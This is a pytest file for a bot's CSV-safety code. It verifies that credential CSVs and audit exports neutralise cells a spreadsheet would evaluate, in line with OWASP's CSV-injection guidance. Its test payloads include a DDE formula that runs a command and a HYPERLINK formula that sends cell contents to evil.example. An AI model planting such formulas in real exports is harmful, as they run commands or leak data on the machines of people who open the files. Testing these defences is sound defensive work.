"""CSV safety: no cell of the credentials CSV or the audit export is something a spreadsheet evaluates.

The rule (OWASP "CSV injection"): a cell starting with = + - @, a tab or a carriage return gets a
leading single quote. The secrets are never altered: a generated password never starts with one.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest

from bot.audit import trail
from bot.common.spreadsheet import FORMULA_START, csv_row, safe_cell
from bot.credentials.vault import Credentials
from bot.runtime.db import make_engine, make_sessionmaker, migrate

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
# What an attacker would write after one: a formula that runs a command or sends data away.
PAYLOADS = ['{}cmd|"/C calc"!A0', "{}HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "{}1+1", "{}SUM(1,2)"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_rule_is_owasps() -> None:
    assert sorted(FORMULA_START) == sorted(DANGEROUS)


@pytest.mark.parametrize("first", DANGEROUS, ids=repr)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(first: str, payload: str) -> None:
    value = payload.format(first)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["jane.doe", "", "'=already quoted", " =leading space", "a=b", "x-1", "user@example.com", "{\"a\": \"=b\"}", "ü=", "1.5"],
)
def test_other_cells_are_left_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [42, -1, None, 1.5])
def test_values_that_are_not_text_pass_through(value: object) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("first", DANGEROUS, ids=repr)
def test_credentials_csv_neutralises_a_user_name_a_spreadsheet_would_evaluate(first: str) -> None:
    name = first + "SUM(1,2)"
    creds = Credentials(
        user_name=name,
        console_url=first + "https://123456789012.signin.aws.amazon.com/console",
        account="123456789012",
        password="Zq7!pW2#mN9$kL4^",
        access_key_id=first + "AKIAIOSFODNN7EXAMPLE",
        secret_access_key="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    )
    header, row = _cells(creds.csv())
    assert header[0] == "User name"
    assert row[0] == "'" + name
    assert row[2] == "'" + first + "AKIAIOSFODNN7EXAMPLE"
    assert row[4] == "'" + first + "https://123456789012.signin.aws.amazon.com/console"
    assert not any(cell.startswith(tuple(DANGEROUS)) for cell in row)


@pytest.mark.parametrize("secret", ["+wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE", "-Zq7!pW2#mN9$kL4^"])
def test_credentials_csv_writes_the_secrets_exactly(secret: str) -> None:
    """A secret altered by a quote would not work; neither can spell a formula that does anything."""
    creds = Credentials(user_name="jane.doe", console_url="https://x", account="1", password=secret, secret_access_key=secret)
    _, row = _cells(creds.csv())
    assert row[1] == secret and row[3] == secret


@pytest.mark.parametrize("first", DANGEROUS, ids=repr)
def test_audit_export_neutralises_every_cell_a_spreadsheet_would_evaluate(database_url: str, first: str) -> None:
    engine = make_engine(database_url)
    migrate(engine)
    sm = make_sessionmaker(engine)
    now = datetime(2026, 3, 1, 12, 0, tzinfo=timezone.utc)
    with sm.begin() as s:
        trail.record(s, action=first + "HYPERLINK(\"https://evil.example\")", actor=first + "UEVIL", now=now, user_name=first + "x")
        trail.record(s, action="requested", actor="UALICE", now=now, reason=first + "cmd|' /C calc'!A0")
    with sm.begin() as s:
        text = trail.export_text(s, since=None, fmt="csv")
        assert trail.verify(s).ok  # the chain is of the stored values, not of the export's cells
    engine.dispose()
    header, evil, plain = _cells(text)
    row = dict(zip(header, evil))
    assert row["actor"] == "'" + first + "UEVIL"
    assert row["action"] == "'" + first + "HYPERLINK(\"https://evil.example\")"
    assert json.loads(row["details"]) == {"user_name": first + "x"}  # JSON starts with {: left as it is
    for cells in (evil, plain):
        assert not any(cell.startswith(tuple(DANGEROUS)) for cell in cells), cells
    assert dict(zip(header, plain))["actor"] == "UALICE"


@pytest.mark.parametrize("inside", ["\r", "\r\n", "\n"], ids=repr)
def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula(inside: str) -> None:
    """Python's csv module with "\\n" line ends leaves a lone "\\r" unquoted; readers break the row there."""
    name = "jane" + inside + "=HYPERLINK(\"https://evil.example\")"
    creds = Credentials(user_name=name, console_url="https://x", account="1", password="p")
    rows = _cells(creds.csv())
    assert len(rows) == 2 and rows[1] == [name, "p", "", "", "https://x"]
    assert _cells(csv_row(["a", 1, None, "b" + inside + "=c"])) == [["a", "1", "", "b" + inside + "=c"]]
    assert csv_row(["a", "b,c", 1]) == 'a,"b,c",1\n'  # quoted only where needed otherwise
